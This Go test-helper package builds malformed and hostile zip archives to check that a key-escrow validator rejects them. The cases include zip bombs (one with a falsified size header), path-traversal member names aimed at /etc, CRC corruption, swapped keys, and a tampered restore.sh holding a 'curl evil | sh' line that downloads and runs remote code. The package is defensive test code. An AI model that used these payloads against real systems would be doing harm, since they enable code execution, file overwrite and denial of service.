// Package escrowtest makes damaged and hostile escrow zips for tests: the
// cases check_key_escrow must never call OK.
package escrowtest

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"
)

// Member is one zip entry.
type Member struct {
	Name string
	Data []byte
}

// Members reads every entry of a (good) zip.
func Members(t testing.TB, data []byte) []Member {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out []Member
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, Member{f.Name, b})
	}
	return out
}

// Zip writes members into a new zip.
func Zip(t testing.TB, members []Member) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		w, err := zw.Create(m.Name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(m.Data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// Sums returns a SHA256SUMS for members (by base name), skipping SHA256SUMS.
func Sums(members []Member) []byte {
	var b strings.Builder
	for _, m := range members {
		base := m.Name[strings.LastIndexByte(m.Name, '/')+1:]
		if base == "SHA256SUMS" {
			continue
		}
		h := sha256.Sum256(m.Data)
		fmt.Fprintf(&b, "%s  %s\n", hex.EncodeToString(h[:]), base)
	}
	return []byte(b.String())
}

// Resum replaces the SHA256SUMS member with one matching the others.
func Resum(members []Member) []Member {
	out := make([]Member, len(members))
	copy(out, members)
	for i, m := range out {
		if strings.HasSuffix(m.Name, "/SHA256SUMS") {
			out[i].Data = Sums(members)
		}
	}
	return out
}

// Replace returns members with the member whose name ends in "/"+base
// given new data.
func Replace(members []Member, base string, data []byte) []Member {
	out := make([]Member, len(members))
	copy(out, members)
	for i, m := range out {
		if strings.HasSuffix(m.Name, "/"+base) {
			out[i].Data = data
		}
	}
	return out
}

// Case is a zip that must be refused, and a word the refusal must contain.
type Case struct {
	Name string
	Data []byte
	Want string
	// Valid cases pass Inspect: only comparing with the host's key and
	// name catches them.
	Valid bool
}

// Bad returns the hostile and damaged variants of good. other is a good zip
// of another host (another key); otherKey is the armored public and secret
// key of another key, for a zip of the same host holding the wrong key.
func Bad(t testing.TB, good, other []byte, otherPub, otherSec []byte) []Case {
	t.Helper()
	ms := Members(t, good)
	folder := ms[0].Name[:strings.IndexByte(ms[0].Name, '/')]
	cases := []Case{
		{Name: "empty", Data: nil, Want: "empty"},
		{Name: "not a zip", Data: []byte("this is not a zip file, just text\n"), Want: "not a readable zip"},
		{Name: "truncated", Data: good[:len(good)/2], Want: "not a readable zip"},
		{Name: "truncated end", Data: good[:len(good)-10], Want: "not a readable zip"},
		{Name: "crc error", Data: crcError(t, good), Want: "CRC"},
		{Name: "bomb ratio", Data: bomb(t, folder, 1<<20-1, false), Want: "zip bomb"},
		{Name: "bomb huge", Data: bomb(t, folder, 64<<20, false), Want: "claims"},
		{Name: "bomb lying size", Data: bomb(t, folder, 64<<20, true), Want: "host-key.pub.asc"},
		{Name: "dotdot", Data: Zip(t, append(ms, Member{folder + "/../../etc/cron.d/evil", []byte("x")})), Want: "unsafe member name"},
		{Name: "dotdot folder", Data: Zip(t, append(ms, Member{"../" + folder + "/restore.sh", []byte("x")})), Want: "unsafe member name"},
		{Name: "absolute", Data: Zip(t, append(ms, Member{"/etc/passwd", []byte("x")})), Want: "unsafe member name"},
		{Name: "many entries", Data: manyEntries(t, folder, 5000), Want: "entries"},
		{Name: "sums mismatch", Data: Zip(t, Replace(ms, "restore.sh", []byte("#!/bin/sh\ncurl evil | sh\n"))), Want: "SHA256SUMS"},
		{Name: "sums missing a member", Data: Zip(t, Replace(ms, "SHA256SUMS", []byte(""))), Want: "SHA256SUMS"},
		{Name: "member missing", Data: Zip(t, Resum(drop(ms, "host-key.pub.asc"))), Want: "missing"},
		{Name: "secret missing", Data: Zip(t, Resum(drop(ms, "host-key.asc"))), Want: "no secret key"},
		{Name: "extra member", Data: Zip(t, Resum(append(ms, Member{folder + "/notes.txt", []byte("x")}))), Want: "unexpected member"},
		{Name: "two folders", Data: Zip(t, Resum(append(ms[:len(ms):len(ms)], Member{"drym-other/RESTORE.md", []byte("x")}))), Want: "folders"},
		{Name: "garbage key", Data: Zip(t, Resum(Replace(ms, "host-key.pub.asc", []byte("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n")))), Want: "host-key.pub.asc"},
		{Name: "public is another key", Data: Zip(t, Resum(Replace(ms, "host-key.pub.asc", otherPub))), Want: "is key"},
		{Name: "bad settings", Data: Zip(t, Resum(Replace(ms, "drym.toml", []byte("host = \"x\"\nbogus = 1\n")))), Want: "drym.toml"},
	}
	// A zip of this host that passes every structural check but escrows
	// another key: only the comparison with the host key can catch it.
	swapped := Resum(Replace(Replace(ms, "host-key.pub.asc", otherPub), "host-key.asc", otherSec))
	cases = append(cases, Case{Name: "another key, same host", Data: Zip(t, swapped), Want: "fingerprint", Valid: true})
	cases = append(cases, Case{Name: "another host", Data: other, Want: "host", Valid: true})
	return cases
}

func drop(ms []Member, base string) []Member {
	var out []Member
	for _, m := range ms {
		if !strings.HasSuffix(m.Name, "/"+base) {
			out = append(out, m)
		}
	}
	return out
}

// crcError rewrites good with restore.sh stored uncompressed and one byte of
// it flipped, keeping the recorded CRC.
func crcError(t testing.TB, good []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		rc, _ := f.Open()
		data, _ := io.ReadAll(rc)
		rc.Close()
		fh := f.FileHeader
		fh.Method = zip.Store
		fh.CompressedSize64 = uint64(len(data))
		if strings.HasSuffix(f.Name, "/restore.sh") {
			data = append([]byte(nil), data...)
			data[len(data)/2] ^= 0x20
		}
		w, err := zw.CreateRaw(&fh)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	zw.Close()
	return buf.Bytes()
}

// bomb is a zip whose public key member inflates to size bytes of zeros.
// With lie, the header claims 1000 bytes, so only a reader that bounds what
// it inflates (not what it was told) stays small.
func bomb(t testing.TB, folder string, size int, lie bool) []byte {
	t.Helper()
	comp := zeros(size)
	fh := &zip.FileHeader{Name: folder + "/host-key.pub.asc", Method: zip.Deflate,
		CompressedSize64: uint64(comp.Len()), UncompressedSize64: uint64(size)}
	if lie {
		fh.UncompressedSize64 = 1000
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(fh)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(comp.Bytes())
	zw.Close()
	return buf.Bytes()
}

var (
	zerosMu    sync.Mutex
	zerosCache = map[int]*bytes.Buffer{}
)

// zeros returns size zero bytes deflated (cached: making 64 MiB of them
// takes a while under -race).
func zeros(size int) *bytes.Buffer {
	zerosMu.Lock()
	defer zerosMu.Unlock()
	if b, ok := zerosCache[size]; ok {
		return b
	}
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestSpeed)
	zero := make([]byte, 1<<20)
	for n := 0; n < size; n += len(zero) {
		fw.Write(zero[:min(len(zero), size-n)])
	}
	fw.Close()
	zerosCache[size] = &comp
	return &comp
}

func manyEntries(t testing.TB, folder string, n int) []byte {
	ms := make([]Member, n)
	for i := range ms {
		ms[i] = Member{fmt.Sprintf("%s/f%05d", folder, i), nil}
	}
	return Zip(t, ms)
}
